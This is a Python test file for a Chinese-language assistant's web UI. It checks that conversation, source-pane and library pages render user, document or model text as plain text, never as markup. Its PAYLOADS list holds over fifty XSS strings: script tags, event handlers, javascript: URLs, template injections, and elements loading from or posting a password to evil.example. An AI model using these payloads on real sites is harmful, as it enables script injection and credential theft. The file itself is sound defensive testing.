"""Nothing a user, a document or a model writes becomes markup."""

from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

from assistant.answer import Answer, Citation, Outcome, Scope, Table
from assistant.feedback import Kind
from assistant.question import Filter
from assistant.ui.banner import banner
from assistant.ui.chat.session import Opinion, Turn
from assistant.ui.chat.transcript import Showing, transcript
from assistant.ui.settings import PageSettings
from assistant.ui.source_pane import no_source, source
from assistant.ui.texts import TEXTS

ZH = TEXTS["zh"]
HARMLESS = "甲"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</p></div><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.png>",
    "![图](https://evil.example/a.png)",
    "[链接](javascript:alert(1))",
    "<a href='javascript:alert(1)'>点</a>",
    "<a href=data:text/html,<script>alert(1)</script>>点</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video src=//evil.example/v autoplay></video>",
    "<audio src=//evil.example/a autoplay onerror=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button class='opens at-1-1'>[9]</button>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<mark>假引文</mark>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "'\" onmouseover=alert(1) x='",
    '" autofocus onfocus="alert(1)',
    "' onclick='alert(1)",
    "`onclick=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<x\tonclick=alert(1)>",
    "<x/onclick=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```html\u3000<script>alert(1)</script>```",
    "@children ${value}",
]


class Skeleton(HTMLParser):
    """Collects the elements and their attributes' names, and the text between them."""

    def __init__(self, markup):
        super().__init__(convert_charrefs=True)
        self.elements, self.words = [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(name for name, _ in attrs)))

    def handle_endtag(self, tag):
        self.elements.append(("/" + tag, ()))

    def handle_comment(self, data):
        self.elements.append(("comment", ()))

    def handle_decl(self, decl):
        self.elements.append(("declaration", ()))

    def handle_pi(self, data):
        self.elements.append(("instruction", ()))

    def handle_data(self, data):
        self.words += data


def citation_of(words):
    return Citation(
        marker=1, document_id="d", document_title=words, document_number=words, address=words, heading=words,
        quote="没有这句", text=words, origin="digest", status_in_force=words, issued=words, issuer=words,
        region=words, carried_from=words, warnings=(words,),
    )  # fmt: skip


def conversation_of(words):
    answer = Answer(
        question=words,
        status=Outcome.ANSWERED,
        text=words,
        citations=(citation_of(words),),
        nearest=(citation_of(words),),
        choices=(words,),
        notices=(words,),
        table=Table(columns=(words,), rows=((words,),)),
        scope=Scope(documents=(words,), regions=(words,), bodies=(words,), missing=(words,)),
        composer=words,
    )
    within = Filter(bodies=(words,))
    turns = (
        Turn(number=1, question=words, answer=answer, offers=(words,), within=within),
        Turn(number=2, question=words),
    )
    opinion = Opinion(kind=Kind.WRONG, comment=words, fault=None)
    settings = PageSettings(library=Path(words), records=Path(words))
    showing = Showing(titles={words: words}, texts=ZH, settings=settings, opinions={1: opinion})
    return transcript(turns, showing)


def pane_of(words, sources, *, row):
    document_id, place = ("fictional-2014-breakdown", 2) if row else ("fictional-2014-work-points", 2)
    provisions = [
        replace(
            provision,
            own_text=words,
            headings=(words,),
            heading=words if number == 0 else "",
            cells=tuple(
                replace(cell, column=words, text=words, carried_from=cell.carried_from and "上")
                for cell in provision.cells
            ),
        )
        for number, provision in enumerate(sources.document_provisions(document_id))
    ]
    provisions[place] = replace(provisions[place], address=words)
    if row:
        provisions[place - 1] = replace(provisions[place - 1], address="上")
    cited = replace(citation_of(words), carried_from="上" if row else None)
    documents = [replace(document, implements=(f"《{words}》",)) for document in sources.documents()]
    held = SimpleNamespace(documents=lambda: documents, document_provisions=lambda id: provisions)
    return source(replace(cited, document_id=document_id), "1-1", held, ZH)


def library_of(words, sources):
    documents = [replace(document, title=words, document_number=words) for document in sources.documents()]
    return no_source(documents, ZH) + banner(documents, ZH)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("page", ["conversation", "provision", "row", "library"])
def test_a_payload_adds_no_element_and_no_attribute(page, payload, sources):
    render = {
        "conversation": conversation_of,
        "provision": lambda words: pane_of(words, sources, row=False),
        "row": lambda words: pane_of(words, sources, row=True),
        "library": lambda words: library_of(words, sources),
    }[page]

    rendered, expected = Skeleton(render(payload)), Skeleton(render(HARMLESS))

    assert rendered.elements == expected.elements
    assert payload in rendered.words


def test_html_stays_on_one_line_so_that_markdown_leaves_it_alone():
    rendered = conversation_of("一\n\n# 二\r\n\t三\r四")

    assert not set("\n\r\t") & set(rendered)
    assert rendered.startswith("<div")


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) >= 40
